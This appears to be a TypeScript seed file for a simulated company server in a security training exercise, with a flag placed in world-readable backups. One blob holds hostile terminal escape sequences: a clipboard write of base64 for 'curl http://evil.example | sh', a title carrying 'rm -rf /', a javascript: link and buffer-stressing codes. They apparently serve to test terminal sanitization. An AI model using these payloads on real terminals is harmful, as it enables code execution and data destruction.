import { md } from '../../markdown'
import type { ShellSeed } from '../../shell-types'

/** Bytes of a binary journal that a careless `cat` sends to the screen: everything a terminal must not obey. */
const noise = [
  'JRNL\0\x02 2026-11-03 kernel: console switched\n',
  '\x1b]0;root@web01: rm -rf /\x07\x1b]2;pwned\x1b\\',
  '\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07\x1b]52;c;?\x07',
  '\x1b]8;;javascript:alert(document.domain)\x07update available\x1b]8;;\x07\n',
  'a\x1b[2147483647b\x1b[2147483647L\x1b[2147483647M\x1b[2147483647S\x1b[2147483647T\x1b[2147483647I\n',
  '\x07'.repeat(400),
  '\x1b[c\x1b[>c\x1b[=c\x1b[5n\x1b[6n\x1b[?6n\x1b[?1$p\x1bP$qm\x1b\\\x1bP+q544e\x1b\\\x1b]10;?\x07\x1b]4;1;?\x07\x1b[18t\x1b[21t\n',
  '\x1b[?1000h\x1b[?1006h\x1b[?2004h\x1b[?1049h\x1b[?1049l\x1b[?25l\x1b[?25h\x1b[?1000l\x1b[?1006l\x1b[?2004l\x1b[m\n',
  'JRNL\x03 end of journal\n',
].join('')

/** The server of a small company, looked at for the first time: task 104. */
export const lookAroundShell: ShellSeed = {
  host: 'web01',
  address: '192.0.2.10',
  groups: ['adm'],
  welcome: md`
    Сервер компании «Ромашка» (web01). Наберите help, чтобы увидеть команды,
    и ls -la, чтобы осмотреться. Shift+Tab выводит из терминала.
  `,
  accounts: [
    { name: 'olga', id: 1001 },
    { name: 'deploy', id: 1002 },
  ],
  files: {
    '/home/student/notes.txt': {
      daysAgo: 2,
      text: [
        'Передача дел. Коротко:\n\n',
        '  * сайт лежит в /var/www, слушает порт 8080;\n',
        '  * резервные копии сайта складываем в /var/backups, туда пускают всех;\n',
        '  * что делал до тебя предыдущий дежурный, видно в ~/.bash_history;\n',
        '  * пароли в заметках не храним. Флаги, в общем, тоже.\n\n',
        'Ольга\n',
      ].join(''),
    },
    '/home/student/.bash_history': {
      mode: 0o600,
      daysAgo: 1,
      text: 'id\nls -la\nps aux\nfind /var/backups -type f\ncat /var/log/site/access.log | grep 404 | wc -l\nexit\n',
    },
    '/home/student/letters/welcome.txt': {
      daysAgo: 3,
      text: 'Здравствуйте! Рабочее место готово. Вопросы по серверу — к Ольге.\n',
    },
    '/home/olga/todo.txt': { mode: 0o600, text: 'закрыть доступ к резервным копиям\n' },
    '/var/backups/site/flag.txt': { daysAgo: 5, text: '{{flag:1041}}\n' },
    '/var/backups/site/index.html.bak': { daysAgo: 5, text: '<!doctype html>\n<title>Ромашка</title>\n' },
    '/var/backups/db/dump.sql': { mode: 0o600, daysAgo: 5, text: '-- dump\n' },
    '/var/www/site/index.html':
      '<!doctype html>\n<title>Ромашка</title>\n<h1>Цветы с доставкой</h1>\n<!-- версия от 3 ноября -->\n',
    '/var/www/site/robots.txt': 'User-agent: *\nDisallow: /admin\n',
    '/var/log/site/access.log': {
      group: 'adm',
      mode: 0o640,
      daysAgo: 1,
      text: [
        '203.0.113.7 "GET / HTTP/1.1" 200 512\n',
        '203.0.113.7 "GET /robots.txt HTTP/1.1" 200 31\n',
        '203.0.113.9 "GET /admin HTTP/1.1" 404 19\n',
        '203.0.113.9 "GET /.git/HEAD HTTP/1.1" 404 19\n',
      ].join(''),
    },
    '/var/log/auth.log': {
      mode: 0o600,
      text: 'sshd[811]: Accepted publickey for deploy from 192.0.2.44 port 51812\n',
    },
    '/var/log/journal/noise.bin': { group: 'adm', mode: 0o644, daysAgo: 18, text: noise },
  },
  directories: { '/home/olga': { owner: 'olga', mode: 0o750 } },
  processes: [
    { user: 'www-data', id: 640, command: '/usr/sbin/nginx: worker process' },
    { user: 'deploy', id: 702, command: '/usr/bin/python3 /opt/site/watch.py' },
  ],
  listening: [
    {
      port: 8080,
      service: 'http-proxy',
      version: 'nginx 1.26.3',
      pages: {
        '/': '<!doctype html>\n<title>Ромашка</title>\n<h1>Цветы с доставкой</h1>\n',
        '/robots.txt': 'User-agent: *\nDisallow: /admin\n',
      },
    },
  ],
}
